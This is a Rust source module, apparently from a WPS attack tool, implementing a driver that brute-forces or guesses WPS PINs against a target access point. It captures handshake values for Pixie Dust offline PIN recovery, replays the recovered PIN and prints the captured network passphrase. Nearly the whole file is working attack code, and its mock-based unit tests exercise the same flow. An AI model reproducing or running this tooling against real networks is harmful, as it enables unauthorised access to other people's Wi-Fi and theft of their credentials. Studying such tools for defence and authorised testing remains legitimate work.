//! WPS registration session driver.
//!
//! One [`SessionDriver`] owns the supplicant control channel for its whole
//! lifetime. Each attempt resets the artifact and outcome records, issues
//! `WPS_REG`, consumes supplicant output until a terminal event, and always
//! ends with `WPS_CANCEL`. [`SessionDriver::run_attempt`] chains a normal
//! attempt with offline Pixie Dust recovery and a confirmation replay.

use pixiejack_logging::T_WPS;
use pixiejack_netlink::{ControlChannel, EventSource, NetlinkError, PinRecovery, RecoveredPin};
use pixiejack_wps::{
    classify_event, default_guess, EventKind, MacAddress, PixieArtifacts, SessionOutcome,
    SessionStatus, UNKNOWN_SSID,
};
use tracing::{debug, info, warn};

use crate::loot::Credentials;
use crate::report::Reporter;

/// Per-run switches.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SessionOptions {
    /// Capture handshake artifacts and run offline recovery on failure
    pub pixie_mode: bool,
    /// Ask the recovery utility for an exhaustive search
    pub pixie_force: bool,
}

/// What one `WPS_REG` .. `WPS_CANCEL` cycle produced.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttemptReport {
    pub pin: String,
    pub status: SessionStatus,
    pub last_message: u8,
    pub artifacts_complete: bool,
    /// Recoverable error that ended the attempt early
    pub error: Option<String>,
}

/// Result of [`SessionDriver::run_attempt`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RunReport {
    pub bssid: MacAddress,
    pub attempts: Vec<AttemptReport>,
    /// PIN returned by offline recovery, if it ran and found one
    pub recovered_pin: Option<RecoveredPin>,
    /// Why offline recovery did not produce a PIN
    pub recovery_error: Option<String>,
    pub credentials: Option<Credentials>,
}

impl RunReport {
    fn new(bssid: MacAddress) -> Self {
        Self {
            bssid,
            attempts: Vec::new(),
            recovered_pin: None,
            recovery_error: None,
            credentials: None,
        }
    }

    pub fn succeeded(&self) -> bool {
        self.credentials.is_some()
    }

    /// Whether the recovery utility was invoked at all.
    pub fn recovery_ran(&self) -> bool {
        self.recovered_pin.is_some() || self.recovery_error.is_some()
    }
}

pub struct SessionDriver<C, E, R> {
    ctrl: C,
    events: E,
    recovery: R,
    artifacts: PixieArtifacts,
    outcome: SessionOutcome,
    reporter: Reporter,
}

impl<C, E, R> SessionDriver<C, E, R>
where
    C: ControlChannel,
    E: EventSource,
    R: PinRecovery,
{
    pub fn new(ctrl: C, events: E, recovery: R, reporter: Reporter) -> Self {
        Self {
            ctrl,
            events,
            recovery,
            artifacts: PixieArtifacts::new(),
            outcome: SessionOutcome::new(),
            reporter,
        }
    }

    pub fn artifacts(&self) -> &PixieArtifacts {
        &self.artifacts
    }

    pub fn outcome(&self) -> &SessionOutcome {
        &self.outcome
    }

    pub fn reporter(&self) -> &Reporter {
        &self.reporter
    }

    pub fn reporter_mut(&mut self) -> &mut Reporter {
        &mut self.reporter
    }

    pub fn into_parts(self) -> (C, E, R, Reporter) {
        (self.ctrl, self.events, self.recovery, self.reporter)
    }

    /// Run one registration attempt with `pin` against `bssid`.
    ///
    /// `pixie_mode` only controls artifact echo; artifacts are always
    /// captured. Returns the terminal status, or `InProgress` if the event
    /// stream closed first.
    ///
    /// # Errors
    /// [`NetlinkError::CommandRejected`] when the supplicant refuses
    /// `WPS_REG`, socket or stream errors otherwise. `WPS_CANCEL` is sent in
    /// every case.
    pub fn wps_attempt(
        &mut self,
        bssid: &MacAddress,
        pin: &str,
        pixie_mode: bool,
    ) -> Result<SessionStatus, NetlinkError> {
        self.artifacts.clear();
        self.outcome.clear();

        let flushed = self.events.drain();
        if flushed > 0 {
            debug!(target: T_WPS, "Flushed {} stale supplicant lines", flushed);
        }

        let pin_text = self.reporter.bold(pin);
        self.reporter.info(format!("Trying PIN {}...", pin_text));
        info!(target: T_WPS, bssid = %bssid, pin, "WPS_REG");

        let result = self
            .ctrl
            .wps_reg(bssid, pin)
            .and_then(|()| self.consume_events(pixie_mode));

        if let Err(e) = self.ctrl.wps_cancel() {
            warn!(target: T_WPS, "WPS_CANCEL failed: {}", e);
        }

        let status = result?;
        info!(
            target: T_WPS,
            bssid = %bssid,
            status = %status,
            last_message = self.outcome.last_message,
            artifacts_complete = self.artifacts.is_complete(),
            "Attempt finished"
        );
        Ok(status)
    }

    fn consume_events(&mut self, pixie_mode: bool) -> Result<SessionStatus, NetlinkError> {
        while let Some(line) = self.events.next_line()? {
            self.apply_event(classify_event(&line), pixie_mode);
            if self.outcome.is_terminal() {
                break;
            }
        }
        if !self.outcome.is_terminal() {
            warn!(target: T_WPS, "Supplicant output closed before the attempt finished");
        }
        Ok(self.outcome.status())
    }

    fn apply_event(&mut self, event: EventKind, pixie_mode: bool) {
        match event {
            EventKind::Sending(n) => {
                self.outcome.last_message = n;
                self.reporter.info(format!("Sending M{}...", n));
            }
            EventKind::Received(n) => {
                self.outcome.last_message = n;
                self.reporter.info(format!("Received M{}", n));
            }
            EventKind::Nack => {
                if self.outcome.transition(SessionStatus::PeerRejected) {
                    self.reporter.warn("Received NACK (possible lock)");
                }
            }
            EventKind::Artifact { kind, hex } => {
                debug!(target: T_WPS, "{}: {}", kind, hex);
                if pixie_mode {
                    self.reporter.progress(format!("{}: {}", kind.label(), hex));
                }
                self.artifacts.set(kind, hex);
            }
            EventKind::NetworkKey { psk } => {
                if self.outcome.record_psk(psk) {
                    self.reporter.ok("Network key received");
                }
            }
            EventKind::Failure => {
                if self.outcome.transition(SessionStatus::ProtocolFailed) {
                    self.reporter.error("WPS Failed");
                }
            }
            EventKind::Associating => self.reporter.info("Associating..."),
            EventKind::Associated => self.reporter.ok("Associated with AP"),
            EventKind::Authenticating { ssid } => {
                self.reporter.info(format!("Authenticating with {}", ssid));
                self.outcome.essid = ssid;
            }
            EventKind::Unrecognized => {}
        }
    }

    fn attempt(
        &mut self,
        bssid: &MacAddress,
        pin: &str,
        pixie_mode: bool,
    ) -> Result<AttemptReport, NetlinkError> {
        let error = match self.wps_attempt(bssid, pin, pixie_mode) {
            Ok(_) => None,
            Err(e) if e.is_recoverable() => {
                let message = match &e {
                    NetlinkError::CommandRejected { reply, .. } => {
                        format!("Command rejected: {}", reply)
                    }
                    other => format!("Attempt aborted: {}", other),
                };
                self.reporter.error(message);
                Some(e.to_string())
            }
            Err(e) => return Err(e),
        };
        Ok(AttemptReport {
            pin: pin.to_string(),
            status: self.outcome.status(),
            last_message: self.outcome.last_message,
            artifacts_complete: self.artifacts.is_complete(),
            error,
        })
    }

    fn credentials(&self, bssid: &MacAddress, pin: &str) -> Credentials {
        let essid = if self.outcome.essid.is_empty() {
            UNKNOWN_SSID.to_string()
        } else {
            self.outcome.essid.clone()
        };
        Credentials {
            essid,
            bssid: *bssid,
            pin: pin.to_string(),
            psk: self.outcome.psk.clone(),
        }
    }

    /// Attack `bssid` once, with optional Pixie Dust follow-up.
    ///
    /// Uses the BSSID-derived default guess when `pin` is `None`. In pixie
    /// mode a failed attempt with a complete artifact set is handed to the
    /// recovery utility, and a recovered PIN is replayed once with artifact
    /// echo off. Success requires a network key from the final attempt.
    ///
    /// # Errors
    /// Only non-recoverable errors; everything else is reported and folded
    /// into the returned [`RunReport`].
    pub fn run_attempt(
        &mut self,
        bssid: &MacAddress,
        pin: Option<&str>,
        options: SessionOptions,
    ) -> Result<RunReport, NetlinkError> {
        let pin = pin
            .map(str::to_string)
            .unwrap_or_else(|| default_guess(bssid));
        let mut report = RunReport::new(*bssid);

        let first = self.attempt(bssid, &pin, options.pixie_mode)?;
        let first_status = first.status;
        report.attempts.push(first);

        if first_status == SessionStatus::CredentialsRecovered {
            report.credentials = Some(self.credentials(bssid, &pin));
            return Ok(report);
        }

        if !options.pixie_mode {
            return Ok(report);
        }

        let Some(command) = self.artifacts.pixie_command(options.pixie_force) else {
            let missing: Vec<&str> = self.artifacts.missing().iter().map(|k| k.label()).collect();
            self.reporter.warn(format!(
                "Not enough handshake data for Pixie Dust (missing {})",
                missing.join(", ")
            ));
            return Ok(report);
        };

        self.reporter.info("Running Pixiewps...");
        let recovered = match self.recovery.recover(&command) {
            Ok(recovered) => recovered,
            Err(e) if e.is_recoverable() => {
                self.reporter.error("Pixiewps failed to recover PIN.");
                debug!(target: T_WPS, "Recovery failed: {}", e);
                report.recovery_error = Some(e.to_string());
                return Ok(report);
            }
            Err(e) => return Err(e),
        };

        let found = self.reporter.bold(&recovered.to_string());
        self.reporter.ok(format!("Pixiewps found PIN: {}", found));
        let replay_pin = recovered.as_command_arg().to_string();
        report.recovered_pin = Some(recovered);

        let second = self.attempt(bssid, &replay_pin, false)?;
        let second_status = second.status;
        report.attempts.push(second);

        if second_status == SessionStatus::CredentialsRecovered {
            report.credentials = Some(self.credentials(bssid, &replay_pin));
        }
        Ok(report)
    }

    /// Print the success banner for `creds`.
    pub fn print_credentials(&mut self, creds: &Credentials) {
        let psk = self.reporter.bold(&creds.psk);
        self.reporter.line("");
        self.reporter.line("╔════ SUCCESS ══════════════════════╗");
        self.reporter.line(format!("║ SSID  : {}", creds.essid));
        self.reporter.line(format!("║ BSSID : {}", creds.bssid));
        self.reporter.line(format!("║ PIN   : {}", creds.pin));
        self.reporter.line(format!("║ PSK   : {}", psk));
        self.reporter.line("╚═══════════════════════════════════╝");
        self.reporter.line("");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::VecDeque;
    use std::sync::{Arc, Mutex};

    use tracing_subscriber::layer::{Context, Layer, SubscriberExt};

    use pixiejack_wps::PixieCommand;

    #[derive(Default)]
    struct Ctrl {
        sent: Vec<String>,
    }

    impl ControlChannel for Ctrl {
        fn request(&mut self, command: &str) -> pixiejack_netlink::Result<String> {
            self.sent.push(command.to_string());
            Ok("OK".to_string())
        }

        fn send_only(&mut self, command: &str) -> pixiejack_netlink::Result<()> {
            self.sent.push(command.to_string());
            Ok(())
        }
    }

    struct Lines(VecDeque<String>);

    impl EventSource for Lines {
        fn next_line(&mut self) -> pixiejack_netlink::Result<Option<String>> {
            Ok(self.0.pop_front())
        }

        fn drain(&mut self) -> usize {
            0
        }
    }

    struct NoRecovery;

    impl PinRecovery for NoRecovery {
        fn recover(&mut self, _command: &PixieCommand) -> pixiejack_netlink::Result<RecoveredPin> {
            Err(NetlinkError::RecoveryUnavailable("not in tests".to_string()))
        }
    }

    fn driver(lines: &[&str]) -> SessionDriver<Ctrl, Lines, NoRecovery> {
        SessionDriver::new(
            Ctrl::default(),
            Lines(lines.iter().map(|s| s.to_string()).collect()),
            NoRecovery,
            Reporter::memory(),
        )
    }

    fn bssid() -> MacAddress {
        "AA:BB:CC:DD:EE:FF".parse().unwrap()
    }

    #[test]
    fn test_events_after_terminal_are_not_consumed() {
        let mut d = driver(&[
            "WPS: Received WSC_NACK",
            "WPS: Network Key - hexdump(len=5): 68 65 6c 6c 6f",
        ]);
        let status = d.wps_attempt(&bssid(), "12345670", false).unwrap();
        assert_eq!(status, SessionStatus::PeerRejected);
        assert!(d.outcome().psk.is_empty());
        assert_eq!(d.events.0.len(), 1);
    }

    #[test]
    fn test_closed_stream_leaves_in_progress() {
        let mut d = driver(&["WPS: Building Message M2D"]);
        let status = d.wps_attempt(&bssid(), "12345670", false).unwrap();
        assert_eq!(status, SessionStatus::InProgress);
        assert_eq!(d.outcome().last_message, 2);
        assert_eq!(d.ctrl.sent.last().map(String::as_str), Some("WPS_CANCEL"));
    }

    #[test]
    fn test_default_guess_used_without_pin() {
        let mut d = driver(&["WPS-FAIL"]);
        let report = d.run_attempt(&bssid(), None, SessionOptions::default()).unwrap();
        assert_eq!(d.ctrl.sent[0], "WPS_REG AA:BB:CC:DD:EE:FF 45446399");
        assert_eq!(report.attempts.len(), 1);
        assert_eq!(report.attempts[0].status, SessionStatus::ProtocolFailed);
        assert!(!report.succeeded());
        assert!(!report.recovery_ran());
    }

    #[test]
    fn test_artifacts_echoed_only_in_pixie_mode() {
        let line = "WPS: DH peer Public Key - hexdump(len=2): ab cd";
        let mut quiet = driver(&[line, "WPS-FAIL"]);
        quiet.wps_attempt(&bssid(), "12345670", false).unwrap();
        assert!(!quiet.reporter().transcript().iter().any(|l| l.starts_with("[P]")));
        assert_eq!(quiet.artifacts().pke, "ABCD");

        let mut loud = driver(&[line, "WPS-FAIL"]);
        loud.wps_attempt(&bssid(), "12345670", true).unwrap();
        assert!(loud
            .reporter()
            .transcript()
            .contains(&"[P] PKE: ABCD".to_string()));
    }

    #[test]
    fn test_ssid_reaches_credentials() {
        let mut d = driver(&[
            "wlan0: SME: Trying to authenticate with aa:bb:cc:dd:ee:ff (SSID='Lab Net' freq=2437 MHz)",
            "WPS: Network Key - hexdump(len=5): 68 65 6c 6c 6f",
        ]);
        let report = d.run_attempt(&bssid(), Some("12345670"), SessionOptions::default()).unwrap();
        let creds = report.credentials.unwrap();
        assert_eq!(creds.essid, "Lab Net");
        assert_eq!(creds.psk, "hello");
        assert_eq!(creds.pin, "12345670");
    }

    #[derive(Clone, Default)]
    struct TargetLog(Arc<Mutex<Vec<(String, String)>>>);

    impl<S: tracing::Subscriber> Layer<S> for TargetLog {
        fn on_event(&self, event: &tracing::Event<'_>, _ctx: Context<'_, S>) {
            let meta = event.metadata();
            if let Ok(mut seen) = self.0.lock() {
                seen.push((
                    meta.module_path().unwrap_or_default().to_string(),
                    meta.target().to_string(),
                ));
            }
        }
    }

    #[test]
    fn test_session_events_all_land_in_wps_log() {
        let log = TargetLog::default();
        let subscriber = tracing_subscriber::registry().with(log.clone());
        let mut d = driver(&[
            "WPS: DH peer Public Key - hexdump(len=2): 11 22",
            "WPS: Enrollee Nonce - hexdump(len=2): aa bb",
            "WPS: DH own Public Key - hexdump(len=2): 55 66",
            "WPS: AuthKey - hexdump(len=2): 99 aa",
            "WPS: E-Hash1 - hexdump(len=2): de ad",
            "WPS: E-Hash2 - hexdump(len=2): ca fe",
            "WPS-FAIL",
        ]);
        let options = SessionOptions {
            pixie_mode: true,
            pixie_force: false,
        };
        let report = tracing::subscriber::with_default(subscriber, || {
            d.run_attempt(&bssid(), Some("12345670"), options).unwrap()
        });
        assert!(report.recovery_error.is_some());

        let seen = log.0.lock().unwrap();
        let session: Vec<_> = seen
            .iter()
            .filter(|(module, _)| module.ends_with("session"))
            .collect();
        assert!(session.len() > 3);
        assert!(session.iter().all(|(_, target)| target == T_WPS));
    }

    #[test]
    fn test_missing_ssid_uses_sentinel() {
        let mut d = driver(&["WPS: Network Key - hexdump(len=2): 68 69"]);
        let report = d.run_attempt(&bssid(), Some("12345670"), SessionOptions::default()).unwrap();
        assert_eq!(report.credentials.unwrap().essid, UNKNOWN_SSID);
    }
}
